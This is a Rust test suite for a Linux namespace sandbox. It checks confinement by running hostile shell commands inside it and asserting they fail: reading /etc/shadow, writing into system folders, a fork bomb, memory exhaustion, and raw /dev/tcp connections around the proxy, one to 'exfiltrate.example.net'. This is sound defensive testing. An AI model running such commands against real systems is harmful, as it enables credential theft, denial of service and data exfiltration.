//! The sandbox as programs meet it: what they try is tried for real.

#![cfg(target_os = "linux")]
#![allow(missing_docs, clippy::unwrap_used, reason = "tests may stop where they are wrong")]

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rederive_evidence::ids::Id;
use rederive_gate::ports::{Exit, Finished, Job, Sandbox as _};
use rederive_gate::sandbox::{Namespaces, SandboxFault};

fn sandbox() -> Namespaces {
    Namespaces::new(Id::new("namespaces").unwrap(), env!("CARGO_BIN_EXE_rederive-sandbox"))
}

/// The sandbox, or none where this kernel lets nobody make one: said loudly, since nothing is proved then.
fn at_hand() -> Option<Namespaces> {
    let sandbox = sandbox();
    match sandbox.ready() {
        Ok(()) => Some(sandbox),
        Err(why) => {
            eprintln!("SKIPPED: no sandbox on this machine: {why}");
            None
        }
    }
}

fn job(command: &[&str]) -> Job {
    Job {
        command: command.iter().map(Into::into).collect(),
        input: Vec::new(),
        environment: BTreeMap::from([("PATH".into(), "/usr/bin:/bin".into())]),
        writable: None,
        readable: Vec::new(),
        network: Vec::new(),
        time: Duration::from_secs(5),
        memory_bytes_max: 256 << 20,
        output_bytes_max: 64 << 10,
        processes_max: 32,
    }
}

fn sh(script: &str) -> Job {
    job(&["/bin/sh", "-c", script])
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A folder outside of the system's temporary one, which jobs see their own of.
struct Folder(tempfile::TempDir);

impl Folder {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn child(&self, name: &str) -> PathBuf {
        let path = self.path().join(name);
        std::fs::create_dir(&path).unwrap();
        path
    }
}

#[test]
fn a_program_runs_with_its_input_environment_and_exit_status() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("cat; echo $GREETING; echo oops >&2; exit 7");
    job.input = b"in ".to_vec();
    job.environment.insert("GREETING".into(), "hello".into());
    let done = sandbox.run(&job).unwrap();
    assert_eq!((text(&done.stdout), text(&done.stderr)), ("in hello\n".into(), "oops\n".into()));
    assert_eq!((done.exit, done.is_cut, done.connections.len()), (Exit::Status(7), false, 0));
    assert_eq!(sandbox.run(&sh("kill -KILL $$")).unwrap().exit, Exit::Signal(9));
}

#[test]
fn only_the_one_folder_can_be_written_and_only_what_was_given_be_read() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let (mine, shared, other) = (folder.child("mine"), folder.child("shared"), folder.child("other"));
    std::fs::write(shared.join("data"), "shared").unwrap();
    std::fs::write(other.join("data"), "other").unwrap();
    let mut job = sh(&format!(
        "cat {shared}/data; echo; echo made > here; \
         for f in {shared}/x {other}/x {outer}/x /etc/x /usr/x /x /tmp/x /dev/x /proc/sys/kernel/hostname; do (echo x > $f) 2>/dev/null && echo WROTE $f; done; \
         cat {other}/data /etc/shadow /root/.bashrc 2>/dev/null && echo READ; ls /home /root /var 2>/dev/null; pwd",
        shared = shared.display(),
        other = other.display(),
        outer = folder.path().display(),
    ));
    job.writable = Some(mine.clone());
    job.readable = vec![shared];
    let done = sandbox.run(&job).unwrap();
    assert_eq!(text(&done.stdout), format!("shared\n{}\n", mine.display()), "{}", text(&done.stderr));
    assert_eq!(std::fs::read_to_string(mine.join("here")).unwrap(), "made\n");
    assert_eq!(std::fs::read_dir(&other).unwrap().count(), 1);
}

#[test]
fn folders_of_the_system_are_not_handed_out_and_an_empty_job_is_refused() {
    let sandbox = sandbox();
    for path in ["/", "/etc", "/usr/share", "/proc", "relative", "/nowhere/at/all"] {
        let mut given = sh("true");
        given.writable = Some(path.into());
        assert!(matches!(sandbox.run_job(&given), Err(SandboxFault::Path { .. })), "{path}");
        let mut given = sh("true");
        given.readable = vec![path.into()];
        assert!(matches!(sandbox.run_job(&given), Err(SandboxFault::Path { .. })), "{path}");
    }
    assert!(matches!(sandbox.run_job(&job(&[])), Err(SandboxFault::Empty)));
}

#[test]
fn without_its_helper_nothing_runs() {
    let sandbox = Namespaces::new(Id::new("none").unwrap(), "/nowhere/rederive-sandbox");
    assert!(sandbox.ready().is_err());
    assert!(matches!(sandbox.run_job(&sh("true")), Err(SandboxFault::NoHelper { .. })));
}

#[test]
fn nothing_of_the_outside_is_seen_and_no_privilege_is_left_or_gained() {
    let Some(sandbox) = at_hand() else { return };
    let script = "grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs' /proc/self/status; \
                  ls /proc | grep -c '^[0-9]'; \
                  unshare -U true 2>/dev/null && echo NESTED; mount -t tmpfs x /mnt 2>/dev/null && echo MOUNTED; \
                  env | sort | cut -d= -f1 | tr '\\n' ' '";
    let done = sandbox.run(&sh(script)).unwrap();
    let said = text(&done.stdout);
    for line in said.lines().filter(|line| line.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
    assert!(
        said.contains("NoNewPrivs:\t1") && !said.contains("NESTED") && !said.contains("MOUNTED"),
        "{said}"
    );
    assert!(said.lines().any(|line| line.parse::<u32>().is_ok_and(|processes| processes <= 4)), "{said}");
    assert!(!said.contains("CARGO"), "{said}");
}

#[test]
fn too_much_time_ends_it_with_everything_it_started() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let mine = folder.child("mine");
    let mut job = sh("(trap '' TERM HUP; setsid sh -c 'sleep 2; echo late > late') & sleep 60");
    job.writable = Some(mine.clone());
    job.time = Duration::from_millis(500);
    let began = Instant::now();
    let done = sandbox.run(&job).unwrap();
    assert_eq!(done.exit, Exit::TimeLimit);
    assert!(began.elapsed() < Duration::from_secs(2), "{:?}", began.elapsed());
    std::thread::sleep(Duration::from_millis(2_200));
    assert!(!mine.join("late").exists(), "a process outlived the sandbox");
}

#[test]
fn a_process_left_behind_ends_with_the_program() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let mine = folder.child("mine");
    let mut job = sh("setsid sh -c 'sleep 1; echo late > late' & exit 0");
    job.writable = Some(mine.clone());
    assert_eq!(sandbox.run(&job).unwrap().exit, Exit::Status(0));
    std::thread::sleep(Duration::from_millis(1_300));
    assert!(!mine.join("late").exists());
}

#[test]
fn too_many_processes_cannot_be_had() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("f() { f | f & }; f; sleep 1; echo over");
    job.processes_max = 8;
    job.time = Duration::from_secs(3);
    let done = sandbox.run(&job).unwrap();
    let refused = text(&done.stderr).to_lowercase();
    assert!(refused.contains("fork") || done.exit != Exit::Status(0), "{done:?}");
    // Counted, with one process at a time that starts others.
    let count = "i=0; while [ $i -lt 40 ]; do sleep 1 & i=$((i+1)); ls -d /proc/[0-9]* | wc -l; done 2>/dev/null | sort -n | tail -1";
    let mut job = sh(count);
    job.processes_max = 8;
    let done = sandbox.run(&job).unwrap();
    let most: u32 = text(&done.stdout).trim().parse().unwrap_or(0);
    assert!(most <= 10, "{most} processes");
}

#[test]
fn too_much_memory_ends_it_or_is_not_had() {
    let Some(sandbox) = at_hand() else { return };
    let mut many = sh(
        "for i in 1 2 3 4; do (x=$(head -c 40000000 /dev/zero | tr '\\0' x); sleep 2) & done; wait; echo survived",
    );
    many.memory_bytes_max = 64 << 20;
    assert_eq!(sandbox.run(&many).unwrap().exit, Exit::MemoryLimit, "many processes, together too large");
    let mut one = sh("x=$(head -c 400000000 /dev/zero | tr '\\0' x); echo survived");
    one.memory_bytes_max = 64 << 20;
    let done = sandbox.run(&one).unwrap();
    assert!(done.exit != Exit::Status(0) && !text(&done.stdout).contains("survived"), "{:?}", done.exit);
}

#[test]
fn too_much_output_is_cut_and_said_so() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("head -c 5000000 /dev/zero | tr '\\0' x; echo end >&2");
    job.output_bytes_max = 1_000;
    let done = sandbox.run(&job).unwrap();
    assert_eq!((done.stdout.len(), done.is_cut, done.exit), (1_000, true, Exit::Status(0)));
    let small = sandbox.with_file_bytes_max(1_000);
    let folder = Folder::new();
    let mut job = sh("head -c 100000 /dev/zero > big; stat -c %s big");
    job.writable = Some(folder.child("mine"));
    assert_eq!(text(&small.run(&job).unwrap().stdout).trim(), "1000");
}

/// Answers every connection with a fixed text, and says where it listens.
fn server() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut head = [0; 512];
            let _ = stream.read(&mut head);
            let _ =
                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nserved");
        }
    });
    port
}

fn tried(done: &Finished) -> Vec<(String, u16, bool)> {
    done.connections.iter().map(|attempt| (attempt.host.clone(), attempt.port, attempt.allowed)).collect()
}

#[test]
fn only_the_allow_list_is_reached_and_every_attempt_is_recorded() {
    let Some(sandbox) = at_hand() else { return };
    if !Path::new("/usr/bin/bash").is_file() {
        eprintln!("SKIPPED: bash, which connects by itself, is not installed");
        return;
    }
    let port = server();
    // Through the proxy, as HTTP clients do.
    let connect = |host: &str, port: u16| {
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 2 cat <&3; exec 3>&-;"
        )
    };
    let script = [connect("127.0.0.1", port), connect("127.0.0.1", 1), connect("example.org", 443)].concat();
    let mut job = job(&["/usr/bin/bash", "-c", &script]);
    job.network = vec![("127.0.0.1".into(), port)];
    let done = sandbox.run(&job).unwrap();
    let said = text(&done.stdout);
    assert!(
        said.contains("served") && said.matches("403 Forbidden").count() == 2,
        "{said}\n{}",
        text(&done.stderr)
    );
    let expected = [
        ("127.0.0.1".into(), port, true),
        ("127.0.0.1".into(), 1, false),
        ("example.org".into(), 443, false),
    ];
    assert_eq!(tried(&done), expected);

    // Past the proxy, by address, by name and by datagram.
    let script = format!(
        "(echo x >/dev/tcp/93.184.216.34/443) 2>/dev/null && echo CONNECTED; (echo x >/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo CONNECTED; \
         (echo x >/dev/udp/198.51.100.7/9999) 2>/dev/null; (echo x >/dev/tcp/exfiltrate.example.net/80) 2>/dev/null && echo CONNECTED; true"
    );
    let done = sandbox.run(&job_of(&script)).unwrap();
    assert_eq!(text(&done.stdout), "", "{}", text(&done.stderr));
    let tried = tried(&done);
    for (host, port) in [("93.184.216.34", 443), ("198.51.100.7", 9_999), ("exfiltrate.example.net", 53)] {
        assert!(tried.contains(&(host.into(), port, false)), "{host}: {tried:?}");
    }
}

fn job_of(script: &str) -> Job {
    job(&["/usr/bin/bash", "-c", script])
}

#[test]
fn many_jobs_at_once_do_not_meet() {
    let Some(sandbox) = at_hand() else { return };
    std::thread::scope(|scope| {
        for number in 0..6 {
            let sandbox = &sandbox;
            scope.spawn(move || {
                let folder = Folder::new();
                let mut job = sh(&format!("echo {number} > n; sleep 0.2; cat n"));
                job.writable = Some(folder.child("mine"));
                assert_eq!(text(&sandbox.run(&job).unwrap().stdout), format!("{number}\n"));
            });
        }
    });
}
